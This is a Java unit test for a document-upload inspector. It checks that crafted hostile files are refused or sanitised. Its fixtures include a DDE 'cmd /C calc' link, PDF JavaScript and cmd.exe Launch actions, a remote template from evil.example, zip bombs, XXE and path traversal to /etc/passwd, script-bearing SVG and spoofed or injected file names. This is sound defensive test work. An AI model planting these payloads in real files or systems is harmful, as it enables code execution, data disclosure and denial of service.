package org.huiyin.documents;

import static org.assertj.core.api.Assertions.assertThat;
import static org.huiyin.documents.Crafted.box;
import static org.huiyin.documents.Crafted.chunk;
import static org.huiyin.documents.Crafted.gzip;
import static org.huiyin.documents.Crafted.join;
import static org.huiyin.documents.Crafted.office;
import static org.huiyin.documents.Crafted.packed;
import static org.huiyin.documents.Crafted.pdf;
import static org.huiyin.documents.Crafted.photo;
import static org.huiyin.documents.Crafted.pngOf;
import static org.huiyin.documents.Crafted.pngWith;
import static org.huiyin.documents.Crafted.riff;
import static org.huiyin.documents.Crafted.segment;
import static org.huiyin.documents.Crafted.webp;
import static org.huiyin.documents.Crafted.word;
import static org.huiyin.documents.Samples.hex;
import static org.huiyin.documents.Samples.latin;
import static org.huiyin.documents.Samples.text;
import static org.huiyin.documents.Samples.zip;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.util.unit.DataSize;

/**
 * Files made to do harm are refused, or do none where they are opened. One file, so that the list
 * of them can be read through.
 */
class HostileFilesTest {

    private static final String SHEET =
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
    private static final String MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml";
    private static final String SCRIPT = "<</S/JavaScript/JS(app.alert(1))>>";
    private static final String HTML = "<html><script>window.__x=1</script></html>";

    private final Documents documents =
            new Documents(
                    new DocumentFolder(Path.of("unused")),
                    new DocumentLimits(DataSize.ofMegabytes(10), DataSize.ofMegabytes(50)),
                    Scanner.none(),
                    Samples.NO_DATABASE);

    static Stream<Arguments> refused() {
        return Stream.of(macros(), archives(), papers(), pictures(), pretenders())
                .flatMap(files -> files);
    }

    private static Stream<Arguments> macros() {
        byte[] program = text("Attribute VB_Name");
        return Stream.of(
                arguments("a.docm", office(MACROS, Map.of("word/vbaProject.bin", program)), "type"),
                arguments("b.docx", word("word/vbaProject.bin", "x"), "macros"),
                arguments(
                        "c.xlsx",
                        office("application/vnd.ms-excel.sheet.macroEnabled.main+xml", Map.of()),
                        "type"),
                arguments(
                        "d.docx",
                        office(Samples.WORD + "\"/><Default ContentType=\"" + MACROS, Map.of()),
                        "macros"),
                arguments(
                        "e.xlsx",
                        office(SHEET, Map.of("xl/macrosheets/sheet1.xml", program)),
                        "macros"),
                arguments("f.doc", ole("Macros/VBA/ThisDocument"), "type"),
                arguments("g.docx", ole("Macros/VBA/ThisDocument"), "type"),
                arguments("h.docx", word("word/activeX/activeX1.bin", "x"), "macros"),
                arguments("i.docx", word("word/embeddings/oleObject1.bin", "MZ"), "macros"),
                arguments(
                        "j.docx",
                        word(
                                "word/_rels/settings.xml.rels",
                                "<Relationship Type=\"x/attachedTemplate\""
                                        + " Target=\"https://evil.example/t.dotm\""
                                        + " TargetMode=\"External\"/>"),
                        "macros"),
                arguments(
                        "k.xlsx",
                        office(
                                SHEET,
                                Map.of(
                                        "xl/externalLinks/externalLink1.xml",
                                        text(
                                                "<ddeLink ddeService=\"cmd\" ddeTopic=\"/C calc\"/>"))),
                        "macros"),
                arguments(
                        "l.odt",
                        Samples.openDocument(Map.of("Basic/Standard/Module1.xml", program)),
                        "macros"));
    }

    private static Stream<Arguments> archives() {
        Map<String, byte[]> many = new LinkedHashMap<>();
        for (int i = 0; i <= 10_000; i++) {
            many.put("word/" + i + ".xml", new byte[0]);
        }
        byte[] locked = word("word/document.xml", "x");
        locked[new String(locked, StandardCharsets.ISO_8859_1).lastIndexOf("PK\1\2") + 8] |= 1;
        byte[] nothing = new byte[70 << 20];
        byte[] bomb = zip(Map.of("0", nothing));
        return Stream.of(
                arguments("a.docx", word("../../../etc/cron.d/x", "x"), "parts"),
                arguments("b.docx", word("/etc/passwd", "x"), "parts"),
                arguments("c.docx", word("C:\\autoexec.bat", "x"), "parts"),
                arguments(
                        "d.docx",
                        office(
                                Samples.WORD,
                                Map.of("word/a.xml", text("x"), "WORD/A.XML", text("y"))),
                        "parts"),
                arguments("e.docx", locked, "locked"),
                arguments(
                        "f.docx",
                        office(Samples.WORD, Map.of("word/document.xml", nothing)),
                        "bomb"),
                arguments("g.docx", office(Samples.WORD, many), "bomb"),
                arguments("h.zip", bomb, "type"),
                arguments("i.docx", zip(Map.of("inner.zip", bomb)), "type"),
                arguments("j.txt", gzip(nothing), "type"));
    }

    private static Stream<Arguments> papers() {
        byte[] objects = text("7 0 " + SCRIPT);
        return Stream.of(
                arguments("a.pdf", pdf("<</OpenAction " + SCRIPT + ">>"), "active-pdf"),
                arguments("b.pdf", pdf("<</OpenAction<</S/J#61vaScrip#74>>>>"), "active-pdf"),
                arguments("c.pdf", pdf("<</OpenAction<</S/Launch/F(cmd.exe)>>>>"), "active-pdf"),
                arguments(
                        "d.pdf",
                        pdf("<</Names<</EmbeddedFiles 2 0 R>>>>", "<</EF<</F 3 0 R>>>>"),
                        "active-pdf"),
                arguments(
                        "e.pdf",
                        pdf("<<>>", packed("/Type/ObjStm/N 1/First 4", objects)),
                        "active-pdf"),
                arguments("f.pdf", pdf("<<>>", packed("/N 1/First 4", objects)), "active-pdf"),
                arguments(
                        "g.pdf",
                        pdf(
                                "<<>>",
                                "<</Type/ObjStm/Filter/LZWDecode>>\nstream\n\u0080\u000b`P\nendstream"),
                        "active-pdf"),
                arguments(
                        "h.pdf",
                        pdf("<<>>", packed("/Type/ObjStm", join(text("7 0 "), new byte[20 << 20]))),
                        "bomb"),
                arguments(
                        "i.pdf",
                        pdf("<</Encrypt 3 0 R>>", packed("/Type/ObjStm", text("unreadable"))),
                        "locked"));
    }

    private static Stream<Arguments> pictures() {
        byte[] frame = latin("\u0008\u00ff\u00ff\u00ff\u00ff\u0003\u0001\"\0");
        byte[] jpeg =
                join(
                        latin("\u00ff\u00d8"),
                        segment(0xe0, latin("JFIF\0\1\1\0")),
                        segment(0xc2, frame));
        byte[] canvas = latin("\0\0\0\0\u00ff\u00ff\0\u00ff\u00ff\0");
        return Stream.of(
                arguments("a.png", pngOf(60_000, 60_000), "pixels"),
                arguments("b.png", pngOf(-1, 5), "pixels"),
                arguments("c.jpg", jpeg, "pixels"),
                arguments("d.gif", latin("GIF89a\u00ff\u00ff\u00ff\u00ff\0\0\0;"), "pixels"),
                arguments("e.webp", webp(riff("VP8X", canvas)), "pixels"),
                arguments(
                        "f.heic",
                        join(
                                box("ftyp", latin("heic\0\0\0\0mif1heic")),
                                box("meta", box("ispe", latin("\0\0\0\0\0\1\0\0\0\1\0\0")))),
                        "pixels"));
    }

    private static Stream<Arguments> pretenders() {
        String svg = "<svg xmlns='http://www.w3.org/2000/svg'><script>window.__x=1</script></svg>";
        String xml = "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>";
        return Stream.of(
                arguments("a.svg", text(svg), "name"),
                arguments("b.png", text(svg), "name"),
                arguments("c.jpg", text(HTML), "name"),
                arguments("d.html", text(HTML), "name"),
                arguments("e.xml", text(xml + "<a>&b;</a>"), "name"),
                arguments("f.pdf", latin("MZ\u0090\0\3\0\0\0"), "type"),
                arguments("g.png", latin("\u007fELF\2\1\1\0\0\0\0"), "type"),
                arguments("h.jpg.exe", Crafted.picture("jpg"), "name"),
                arguments("i.png\u0000.php", Crafted.picture("png"), "name"),
                arguments("j.jar", zip(Map.of("META-INF/MANIFEST.MF", text("x"))), "type"),
                arguments("k.txt", new byte[0], "empty"));
    }

    @ParameterizedTest
    @MethodSource("refused")
    void isRefused(String name, byte[] content, String reason) {
        assertThat(documents.inspect(name, content))
                .isInstanceOfSatisfying(
                        Rejected.class,
                        no ->
                                assertThat(no.reason().key())
                                        .isEqualTo("documents.rejected." + reason));
    }

    static Stream<Arguments> bare() {
        byte[] exif = text(Crafted.PLACE);
        return Stream.of(
                arguments("a.jpg", photo(), "jpg"),
                arguments("b.jpg", join(photo(), zip(Map.of("x.exe", exif))), "jpg"),
                arguments(
                        "c.png",
                        pngWith(
                                join(
                                        chunk("eXIf", exif),
                                        chunk("tEXt", exif),
                                        chunk("iTXt", exif),
                                        chunk("zzZz", exif))),
                        "png"),
                arguments("d.png", join(pngWith(new byte[0]), exif, text(HTML)), "png"),
                arguments(
                        "e.webp",
                        webp(
                                riff("VP8X", latin("\u000c\0\0\0\7\0\0\7\0\0")),
                                riff("VP8 ", text("the picture itself")),
                                riff("EXIF", exif),
                                riff("XMP ", exif)),
                        ""),
                arguments("f.heic", Crafted.heic(), ""),
                arguments("g.mp4", Crafted.film(), ""));
    }

    @ParameterizedTest
    @MethodSource("bare")
    void theCopyThatIsShownDoesNotSayWhere(String name, byte[] content, String format)
            throws IOException {
        Attachment taken = (Attachment) documents.inspect(name, content);
        byte[] shown = ShownCopy.of(taken.type(), taken.content());

        assertThat(taken.content()).as("evidence").isEqualTo(content);
        assertThat(written(content)).contains(Crafted.PLACE);
        assertThat(written(shown)).doesNotContain("canary", "<script", "<?php", "x.exe");
        if (format.isEmpty()) {
            assertThat(written(shown)).containsAnyOf("the picture itself", "the film itself");
        } else {
            var image = ImageIO.read(new ByteArrayInputStream(shown));
            var plain = ImageIO.read(new ByteArrayInputStream(Crafted.picture(format)));
            assertThat(image.getRGB(0, 0, 16, 8, null, 0, 16))
                    .isEqualTo(plain.getRGB(0, 0, 16, 8, null, 0, 16));
        }
        assertThat(documents.inspect(name, shown)).isInstanceOf(Attachment.class);
    }

    @Test
    void aPhotoIsStillTurnedAsItWas() {
        String shown = HexFormat.of().formatHex(ShownCopy.of(FileType.JPEG, photo()));

        assertThat(shown).contains("011200030000000100060000");
    }

    @Test
    void whatIsShownOfAWebpSaysThatNothingFollows() {
        byte[] shown =
                ShownCopy.of(
                        FileType.WEBP,
                        webp(
                                riff("VP8X", latin("\u001c\0\0\0\0\0\0\0\0\0")),
                                riff("EXIF", hex("00"))));

        assertThat(shown).isEqualTo(webp(riff("VP8X", latin("\u0010\0\0\0\0\0\0\0\0\0"))));
    }

    static Stream<Arguments> inert() {
        return Stream.of(
                arguments("page.txt", text(HTML), "text/plain"),
                arguments("gifar.gif", latin("GIF89a/*\0\0\0;*/=1;window.__x=1"), "image/gif"),
                arguments(
                        "both.pdf",
                        join(pdf("<</Type/Catalog>>"), text(HTML), zip(Map.of("x", text("y")))),
                        "application/pdf"),
                arguments("run.txt", text("=cmd|'/C calc'!A0,@SUM(1)"), "text/plain"));
    }

    @ParameterizedTest
    @MethodSource("inert")
    void whateverElseItIsItLeavesAsAFileToSave(String name, byte[] content, String type) {
        Attachment taken = (Attachment) documents.inspect(name, content);

        assertThat(taken.type().mediaType().toString()).isEqualTo(type);
        assertThat(taken.name()).isEqualTo(name);
    }

    static Stream<Arguments> names() {
        return Stream.of(
                arguments("../../../../etc/passwd", "passwd.png"),
                arguments("..\\..\\windows\\system32\\drivers\\x.png", "x.png"),
                arguments("gpj.\u202egnp.png", "gpj.gnp.png"),
                arguments("\u2066a\u2069\u200b\ufeff.png", "a.png"),
                arguments("a\r\nContent-Type: text/html\r\n\r\n.png", "html.png"),
                arguments("\u001b]0;x\u0007\u001b[2J.png", "]0_x[2J.png"),
                arguments("aux.png", "_aux.png"),
                arguments("LPT1.tar.png", "_LPT1.tar.png"),
                arguments("COM¹.png", "_COM¹.png"),
                arguments("a.png:stream.png", "a.png_stream.png"),
                arguments("<img src=x onerror=alert(1)>.png", "_img src=x onerror=alert(1)_.png"),
                arguments("=cmd|'/C calc'!A0.png", "C calc'!A0.png"),
                arguments("$(reboot)`id`.png", "$(reboot)`id`.png"),
                arguments("x".repeat(5000) + ".png", "x".repeat(120) + ".png"));
    }

    @ParameterizedTest
    @MethodSource("names")
    void namesLeadNowhere(String given, String safe) {
        Attachment taken = (Attachment) documents.inspect(given, Crafted.picture("png"));

        assertThat(taken.name()).isEqualTo(safe);
    }

    /** Whatever a file holds, it is looked at and copied without an exception. */
    @Test
    void brokenFilesBreakNothing() {
        Random random = new Random(20_261_125);
        byte[][] whole = {
            photo(),
            pngWith(chunk("eXIf", text("x"))),
            Crafted.heic(),
            Crafted.film(),
            webp(riff("VP8X", new byte[10]), riff("EXIF", new byte[5])),
            pdf(packed("/N 1", text("7 0 x")))
        };
        for (int round = 0; round < 1_200; round++) {
            byte[] bytes = whole[round % whole.length].clone();
            for (int i = 0; i <= round % 5; i++) {
                bytes[random.nextInt(bytes.length)] = (byte) random.nextInt(256);
            }
            byte[] cut = Arrays.copyOf(bytes, 1 + random.nextInt(bytes.length));
            for (byte[] one : new byte[][] {bytes, cut}) {
                if (documents.inspect("", one) instanceof Attachment taken) {
                    byte[] shown = ShownCopy.of(taken.type(), one);
                    assertThat(shown.length).isLessThanOrEqualTo(one.length + 40);
                }
            }
        }
    }

    private static String written(byte[] content) {
        return new String(content, StandardCharsets.ISO_8859_1);
    }

    private static byte[] ole(String inside) {
        return join(
                hex("d0cf11e0a1b11ae1"), new byte[504], inside.getBytes(StandardCharsets.UTF_16LE));
    }
}
